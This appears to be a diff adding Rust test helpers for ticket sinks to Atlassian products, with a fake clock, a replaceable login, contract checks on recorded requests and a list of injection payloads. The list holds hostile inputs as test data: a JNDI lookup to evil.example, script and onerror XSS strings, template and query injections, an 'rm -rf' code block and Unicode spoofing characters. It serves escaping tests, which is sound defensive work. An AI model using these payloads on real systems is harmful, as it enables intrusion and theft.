@@ -1,0 +1,279 @@
+//! What the tests of all of Atlassian's products use.
+
+use std::collections::BTreeMap;
+use std::pin::Pin;
+use std::sync::{Arc, Mutex};
+use std::time::Duration;
+
+use jiff::Timestamp;
+use quell_deliver::outbox::{Act, Remote};
+use quell_deliver::text::{Hosts, SafeLink};
+use quell_deliver::{Attachment, Block, Body, Key, Label, Letter, Line, Span};
+use quell_http::{Client, Egress, Policy, Rate, Retry};
+use quell_model::{Clock, Severity, TenantId, Untrusted};
+use quell_testkit::double::Ledger;
+use quell_testkit::sinks::Contract;
+use secrecy::SecretString;
+
+use crate::{Credential, Credentials, Kind, Plan, Sink, SinkError, Wanted};
+
+/// A clock that stands.
+#[derive(Debug, Clone)]
+pub(super) struct Hands(pub(super) Arc<Mutex<Timestamp>>);
+
+impl Hands {
+    pub(super) fn new() -> Self {
+        Self(Arc::new(Mutex::new("2026-11-21T12:00:00Z".parse().unwrap())))
+    }
+
+    /// A minute passes.
+    pub(super) fn pass(&self) {
+        *self.0.lock().unwrap() += jiff::SignedDuration::from_mins(1);
+    }
+}
+
+impl Clock for Hands {
+    fn now(&self) -> Timestamp {
+        *self.0.lock().unwrap()
+    }
+}
+
+/// A login that a test replaces. What is in `next` is had from the second reading on.
+#[derive(Debug, Clone)]
+pub(super) struct Login {
+    pub(super) user: String,
+    pub(super) tokens: Arc<Mutex<Vec<String>>>,
+}
+
+impl Login {
+    pub(super) fn new(user: &str, token: &str) -> Self {
+        Self { user: user.to_owned(), tokens: Arc::new(Mutex::new(vec![token.to_owned()])) }
+    }
+
+    /// The tokens that are had one after another; the last one stays.
+    pub(super) fn set(&self, tokens: &[&str]) {
+        *self.tokens.lock().unwrap() = tokens.iter().map(|one| (*one).to_owned()).collect();
+    }
+}
+
+impl Credentials for Login {
+    fn read(&self) -> Pin<Box<dyn Future<Output = Result<Credential, SinkError>> + Send + '_>> {
+        let mut tokens = self.tokens.lock().unwrap();
+        let token = if tokens.len() > 1 { tokens.remove(0) } else { tokens[0].clone() };
+        let (id, secret) = (SecretString::from(self.user.clone()), SecretString::from(token));
+        Box::pin(async move { Ok(Credential { id, secret }) })
+    }
+}
+
+/// A plan for a sink at a double.
+pub(super) fn plan(url: &str, login: &Login, options: &[(&str, &str)]) -> Plan {
+    let hands = Hands::new();
+    let policy = Policy {
+        egress: Egress::new(vec!["http://127.0.0.1".parse().unwrap()]),
+        retry: Retry {
+            attempts: 2,
+            first_wait: Duration::from_millis(1),
+            longest_wait: Duration::from_millis(2),
+            total: Duration::from_secs(30),
+        },
+        rate: Rate::new(100_000, 1, 100_000),
+        ..Policy::default()
+    };
+    let options: BTreeMap<String, String> =
+        options.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect();
+    Plan {
+        name: "tickets".to_owned(),
+        url: Some(url.to_owned()),
+        project: Some("SEC".to_owned()),
+        options,
+        credentials: Arc::new(login.clone()),
+        client: Client::new(policy, Arc::new(hands.clone())).unwrap(),
+        clock: Arc::new(hands),
+        hosts: hosts(),
+    }
+}
+
+pub(super) fn connect(kind: &Kind, plan: Plan) -> Box<dyn Sink> {
+    (kind.connect)(plan).unwrap()
+}
+
+pub(super) fn hosts() -> Hosts {
+    Hosts::default().with("https://quell.example/")
+}
+
+pub(super) fn key(subject: &str) -> Key {
+    Key::new(&TenantId::default(), "tickets", subject, 0)
+}
+
+pub(super) fn link() -> SafeLink {
+    SafeLink::new("https://quell.example/fixes/abc", &hosts()).unwrap()
+}
+
+/// A letter with every kind of part, whose text from outside is `data` everywhere.
+pub(super) fn letter(data: &str) -> Letter {
+    let text = || Untrusted::from(data);
+    let line = |words: &str| Line::own(words).and_data(text()).and_own(" in ").and_code(text());
+    let body = Body::default()
+        .and(Block::Heading(line("What is wrong: ")))
+        .and(Block::Paragraph(Line::data(data)))
+        .and(Block::Paragraph(line("Seen by ").and(Span::Strong("Orca".to_owned()))))
+        .and(Block::Facts(vec![("Asset".to_owned(), Line::default().and_code(text()))]))
+        .and(Block::List(vec![line("- "), Line::data(data)]))
+        .and(Block::Steps(vec![Line::own("Apply it"), line("Look at ")]))
+        .and(Block::Code { language: "diff".to_owned(), text: text() })
+        .and(Block::Paragraph(
+            Line::own("See ").and(Span::Link { words: "the page".to_owned(), to: link() }),
+        ));
+    Letter {
+        key: key("fix:abc"),
+        title: Line::own("Public bucket ").and_data(text()),
+        body,
+        severity: Severity::Critical,
+        due: Some("2026-12-01T00:00:00Z".parse().unwrap()),
+        labels: vec![Label::new("quell"), Label::new("team a")],
+        files: vec![Attachment {
+            name: "evidence.json".to_owned(),
+            media_type: "application/json".to_owned(),
+            text: text(),
+        }],
+        page: Some(link()),
+        owner: Some(Untrusted::from("team-a")),
+        change: None,
+    }
+}
+
+pub(super) fn open(data: &str) -> Act {
+    Act::Open { letter: Box::new(letter(data)) }
+}
+
+pub(super) fn edit(data: &str) -> Act {
+    Act::Edit { letter: Box::new(letter(data)) }
+}
+
+pub(super) fn note(data: &str) -> Act {
+    Act::Note { body: Body::paragraph(Line::own("Seen again: ").and_data(data)) }
+}
+
+pub(super) fn close(data: &str) -> Act {
+    Act::Close { body: Body::paragraph(Line::own("It is fixed: ").and_data(data)) }
+}
+
+pub(super) fn reopen(data: &str) -> Act {
+    Act::Reopen { body: Body::paragraph(Line::own("It is back: ").and_data(data)) }
+}
+
+/// Does an act.
+pub(super) async fn act(
+    sink: &dyn Sink,
+    (subject, act): (&str, &Act),
+    remote: Option<&Remote>,
+) -> Result<Option<Remote>, SinkError> {
+    let key = key(subject);
+    sink.act(&Wanted { key: &key, act, remote }).await
+}
+
+/// Looks for what an act did.
+pub(super) async fn find(
+    sink: &dyn Sink,
+    (subject, act): (&str, &Act),
+    remote: Option<&Remote>,
+) -> Result<Option<Remote>, SinkError> {
+    let key = key(subject);
+    sink.find(&Wanted { key: &key, act, remote }).await
+}
+
+/// Holds all requests against the description of the double and the vendor's own. What is in
+/// `known` is asked for although the vendor's file does not have it.
+pub(super) fn hold(ledger: &Ledger, (own, vendor): (&str, &str), known: &[&str]) {
+    let own = Contract::new(&serde_json::from_str(own).unwrap());
+    let all = ledger.of("");
+    assert!(all.len() > 8, "{}", all.len());
+    let vendor = Contract::of_vendor(vendor);
+    for seen in all {
+        let mine = own.check(&seen, "");
+        assert!(mine.is_ok(), "{mine:?}");
+        let is_known = known.iter().any(|known| seen.what.contains(known));
+        if let Some(vendor) = vendor.as_ref().filter(|_| !is_known) {
+            let theirs = vendor.check(&seen, "");
+            assert!(theirs.is_ok(), "{theirs:?}");
+        }
+    }
+}
+
+/// Texts that try to be more than text.
+pub(super) const PAYLOADS: &[&str] = &[
+    "{code}rm -rf{code}",
+    "{noformat}",
+    "{noformat}\n[click|https://evil.example]\n{noformat}",
+    "{ noformat }",
+    "{NoFormat}*loud*{NoFormat}",
+    "\\{noformat}",
+    "{quote}x{quote}",
+    "{panel:title=x}y{panel}",
+    "{color:red}red{color}",
+    "{html}<script>alert(1)</script>{html}",
+    "{adf:display=block}{\"type\":\"mention\"}{adf}",
+    "{jira:jqlQuery=project=SEC}",
+    "{include:SEC}",
+    "{anchor:here}",
+    "{{{{deep}}}}",
+    "}}{{*x*}}{{",
+    "[evil|https://evil.example/]",
+    "[https://evil.example/]",
+    "[~accountid:5b10a2844c20165700ede21g]",
+    "[~admin]",
+    "[^secret.txt]",
+    "[#anchor]",
+    "[mailto:a@evil.example]",
+    "!https://evil.example/x.png!",
+    "!x.png|width=300!",
+    "https://evil.example/login",
+    "HTTP://EVIL.EXAMPLE/",
+    "www.evil.example",
+    "ftp://evil.example/",
+    "mailto:a@evil.example",
+    "//evil.example/x",
+    "\\\\evil\\share",
+    "SEC-1 and OPS-99",
+    "*bold* _em_ -del- +ins+ ^sup^ ~sub~ ??cite??",
+    "h1. Heading",
+    "bq. quote",
+    "* item\n** sub",
+    "# one\n# two",
+    "- x",
+    "----",
+    "---",
+    "||head||\n|cell|",
+    "|a|b|",
+    ":) :( :D :P ;) (y) (n) (i) (!) (*) (/) (x)",
+    "(c) (r) (tm)",
+    "@admin @here @channel",
+    "<b>bold</b><a href=\"https://evil.example\">x</a>",
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<ac:structured-macro ac:name=\"html\"><ac:plain-text-body><![CDATA[x]]></ac:plain-text-body></ac:structured-macro>",
+    "<ri:user ri:account-id=\"5b10\"/>",
+    "]]><ac:link/>",
+    "]]]]><![CDATA[>",
+    "&lt;script&gt; &#60;b&#62; &amp; &nbsp;",
+    "<!-- comment --><?php x ?>",
+    "line one\r\nline two\rline three",
+    "logs\u{202e}gnp.exe",
+    "\u{2066}isolated\u{2069}",
+    "zero\u{200b}width\u{feff}",
+    "tag\u{e0041}\u{e0042}",
+    "nul\u{0}bell\u{7}esc\u{1b}[31m",
+    "{\"type\":\"mention\",\"attrs\":{\"id\":\"1\"}}",
+    "\",\"marks\":[{\"type\":\"link\"}]",
+    "${jndi:ldap://evil.example/a} {{7*7}} <%= 7 %>",
+    "{{constructor.constructor('x')()}}",
+    "' OR 1=1 -- \" ) AND labels = \"x\"",
+    "/close /assign @me #comment",
+    "\u{fffd}\u{10ffff}漢字größe😀",
+    "\\",
+    "\\\\",
+    "\\u{202e}",
+    "   ",
+    "",
+    "a\tb",
+];
